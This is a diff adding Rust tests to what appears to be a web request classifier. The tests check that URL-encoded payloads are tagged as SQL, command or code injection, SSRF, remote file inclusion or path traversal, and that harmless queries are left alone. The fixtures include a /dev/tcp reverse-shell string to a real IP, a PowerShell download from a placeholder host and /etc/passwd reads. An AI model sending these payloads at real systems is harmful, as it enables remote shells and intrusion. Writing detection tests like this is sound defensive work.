@@ -132,6 +132,96 @@ fn agents_and_referers_count_too() {
 }
 
 #[test]
+fn payloads_are_told_by_their_shape_too() {
+    check(
+        "sql_injection",
+        &[
+            "/a?id=substr%28",
+            "/a?id=%7c%7cchr%28",
+            "/a?id=1%2cnull%2cnull",
+            "/a?id=(lo_get(1))::int",
+            "/a?f='{}'::jsonb+%3C@+'{}'",
+            "/a?u_id[$ne]=2",
+            "/a?n=test%27+or+1%3D",
+            "/a?n=xor+3%3C",
+            "/a?n=+having+count(x)+%3E+5",
+            "/a?n=select+sleep(-3+*+-2)",
+            "/a?n=;insert+/*x*/into+t+values",
+        ],
+    );
+    check(
+        "command_injection",
+        &[
+            "/a?f=for+/f+%22tokens=1%22+%25a+in+(x)+do+y",
+            "/a?f=if+not+exist+c:\\x+(cmd)",
+            "/a?f=if+/i+%22%25v%25%22+equ+%221%22+echo+x",
+            "/a?s=/etc/pas[s]wd",
+            "/a?s=cat+/etc/${a}passwd",
+            "/a?s=%27c%27url+localhost",
+            "/a?s=d=/dev%26%26(sh)0%3E$d/tcp/51.15.142.1/777",
+            "/a?s=;iwr+http://x.example/a.ps1",
+        ],
+    );
+    check(
+        "code_injection",
+        &[
+            "/a?x=@{[system+'id']}",
+            "/a?x=%7B%25+if+True+%25%7D49",
+            "/a?x=$__[_](24)",
+            "/a?x=(system)('uname')+;",
+            "/a?x=O:8:%22stdClass%22:4:{s:3",
+            "/a?x=array_diff+(x)",
+            "/a?x=while(true);",
+            "/a?a[constructor][prototype]=1",
+        ],
+    );
+    check(
+        "ssrf",
+        &["/a?u=http://2852039166/", "/a?u=http://[::ffff:a9fe:a9fe]", "/a?u=rsync://x/"],
+    );
+    check("rfi", &["/a?x=url:file://foo.bar", "/a?x=ftp://evil.example/x"]);
+    check(
+        "path_traversal",
+        &["/.env", "/app/.claude/settings.json", "/proc/net/tcp", "/a?f=..\\x"],
+    );
+    check("protocol", &["/?filter=value)(gidNumber%3C=100"]);
+}
+
+#[test]
+fn shapes_leave_honest_texts_alone() {
+    for target in [
+        "/a?q=std::vector",
+        "/a?q=Foo::Text",
+        "/a?ids=[1,null,null]",
+        "/a?q=sleep+well",
+        "/a?q=gif+and+png",
+        "/a?q=what+if+it+rains",
+        "/a?q=for+sale+in+(berlin)",
+        "/a?q=US$100+(new)",
+        "/a?q=operating+system+(linux)",
+        "/a?file=report+(1).pdf",
+        "/a?$filter=price+gt+5",
+        "/a?f={a,b}",
+        "/a?fields=id,name(first)",
+        "/.well-known/openid-configuration",
+        "/a/..b",
+        "/a?v=1..5",
+        "/a?redirect_uri=https://app.example/cb",
+        "/a?q=O'Brien+and+sons",
+        "/a?q=touch+(me)",
+        "/a?range=%5B1,2%5D",
+        "/a?q=either+or+none",
+        "/a?t=12:30::00",
+        "/a?sort[0][name]=asc",
+        "/a?q=having+fun",
+        "/a?q=union+select+committee",
+        "/a?email=ann%2Bx@example.com",
+    ] {
+        assert_eq!(names(classes(target)), "", "{target}");
+    }
+}
+
+#[test]
 fn honest_texts_with_odd_marks_are_left_alone() {
     for target in [
         "/search?q=O%27Brien+and+sons",
